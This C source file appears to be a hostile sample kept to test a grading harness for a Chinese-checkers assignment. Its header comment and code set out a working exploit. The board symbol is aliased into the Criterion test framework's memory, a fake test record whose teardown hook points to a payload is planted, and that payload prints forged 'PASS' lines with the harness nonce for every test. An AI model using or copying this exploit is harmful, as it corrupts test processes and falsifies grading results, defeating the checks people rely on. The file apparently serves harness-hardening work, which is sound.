/* board_alias.c -- an attack kept as an example (hostile_board_alias):
** the_board is not storage but an alias (a symbol at an offset from a
** buffer of ours) into Criterion's own .bss in the test binary.  When the
** tests' process copied "the board" back over the_board after each call,
** that was a 1700-byte write of the callee's choosing into the process
** that holds the nonce: a fake criterion_current_test whose fini is
** `payload`, which Criterion's teardown then called in that process. */
#define _GNU_SOURCE
#include <elf.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include "chinese-checkers.h"

#ifndef DELTA
#define DELTA 0x20c80
#endif
#define S2(x) #x
#define S(x) S2(x)
__attribute__((used)) static char buf[1 << 16];
__asm__(".globl the_board\n.type the_board,@object\n.size the_board,1700\n.set the_board, buf + (" S(DELTA) ")\n");

struct syms { uint64_t v[8]; };
static const char *const wanted[] = {"nonce", "payload", "criterion_current_test", "criterion_current_suite", "exe.0", 0};
static Elf64_Shdr sh[128];
static Elf64_Shdr *crtst;

__attribute__((no_sanitize_address, noinline)) static int lookup(struct syms *out)
{
    int fd = open("/proc/self/exe", O_RDONLY);
    Elf64_Ehdr eh;
    char shstr[2048];
    Elf64_Shdr *symtab = 0;

    memset(out, 0, sizeof *out);
    if (fd < 0 || pread(fd, &eh, sizeof eh, 0) != sizeof eh || eh.e_shnum > 128) return -1;
    pread(fd, sh, sizeof(Elf64_Shdr) * eh.e_shnum, eh.e_shoff);
    pread(fd, shstr, sizeof shstr, sh[eh.e_shstrndx].sh_offset);
    for (int i = 0; i < eh.e_shnum; i++) {
        if (sh[i].sh_type == SHT_SYMTAB) symtab = &sh[i];
        if (sh[i].sh_name < sizeof shstr && strcmp(shstr + sh[i].sh_name, "cr_tst") == 0) crtst = &sh[i];
    }
    if (!symtab || !crtst) return -1;
    Elf64_Shdr *strtab = &sh[symtab->sh_link];
    size_t n = symtab->sh_size / sizeof(Elf64_Sym);
    static Elf64_Sym chunk[512];
    for (size_t i = 0; i < n; i += 512) {
        pread(fd, chunk, sizeof chunk, symtab->sh_offset + i * sizeof(Elf64_Sym));
        for (size_t j = 0; j < 512 && i + j < n; j++) {
            char name[32];
            if (!chunk[j].st_name) continue;
            pread(fd, name, sizeof name, strtab->sh_offset + chunk[j].st_name);
            name[31] = 0;
            for (int k = 0; wanted[k]; k++)
                if (!out->v[k] && strcmp(name, wanted[k]) == 0) out->v[k] = chunk[j].st_value;
        }
    }
    close(fd);
    return 0;
}

static char out[1 << 16];
/* ---- runs in the WORKER, as the fake test's fini ---- */
__attribute__((no_sanitize_address, noinline)) static void payload(void)
{
    struct syms s;
    if (lookup(&s) != 0 || !s.v[0] || !s.v[1]) _exit(5);
    uintptr_t base = (uintptr_t)payload - s.v[1];
    const char *nonce = (const char *)(base + s.v[0]);
    void **tests = (void **)(base + crtst->sh_addr);
    size_t len = 0;
    for (size_t i = 0; i < crtst->sh_size / 8; i++) {
        const char **t = tests[i];       /* struct criterion_test: name, category, ... */
        if (t) len += snprintf(out + len, sizeof out - len, "\n%s PASS %s/%s\n", nonce, t[1], t[0]);
    }
    write(1, out, len);
    _exit(0);
}

/* ---- runs in the CALLEE: what the worker will copy over its "board" ---- */
void fill_window(void)
{
    static struct syms s;
    static uintptr_t base;
    if (!base) {
        if (lookup(&s) != 0 || !s.v[1] || !s.v[2] || !s.v[3] || !s.v[4]) return;
        base = (uintptr_t)payload - s.v[1];
    }
    char *w = (char *)the_board;
    uintptr_t lo = (uintptr_t)w, ct = base + s.v[2], cs = base + s.v[3], fake = base + s.v[4] + 0x100;
    if (ct < lo || cs < lo || ct + 8 > lo + 1700 || fake + 0xc0 > lo + 1700 || fake < lo) return;
    memset(w, 0, 1700);
    uintptr_t *ft = (uintptr_t *)(w + (fake - lo));           /* struct criterion_test */
    uintptr_t *fs = (uintptr_t *)(w + (fake + 0x40 - lo));    /* struct criterion_suite */
    char *fx = w + (fake + 0x80 - lo);                        /* struct criterion_test_extra_data */
    ft[0] = (uintptr_t)"x";
    ft[1] = (uintptr_t)"x";
    ft[3] = fake + 0x80;
    fs[0] = (uintptr_t)"x";
    *(uintptr_t *)(fx + 56) = (uintptr_t)payload;             /* .fini */
    *(uintptr_t *)(w + (ct - lo)) = fake;
    *(uintptr_t *)(w + (cs - lo)) = fake + 0x40;
}

int attack_neighbor(int xf, int yf, int xt, int yt)
{
    long long dx = (long long)xt - xf, dy = (long long)yt - yf;
    int ok = (dy == 0 && (dx == 2 || dx == -2)) || ((dy == 1 || dy == -1) && (dx == 1 || dx == -1));
    fill_window();
    return ok ? VALID_MOVE : INVALID_MOVE;
}
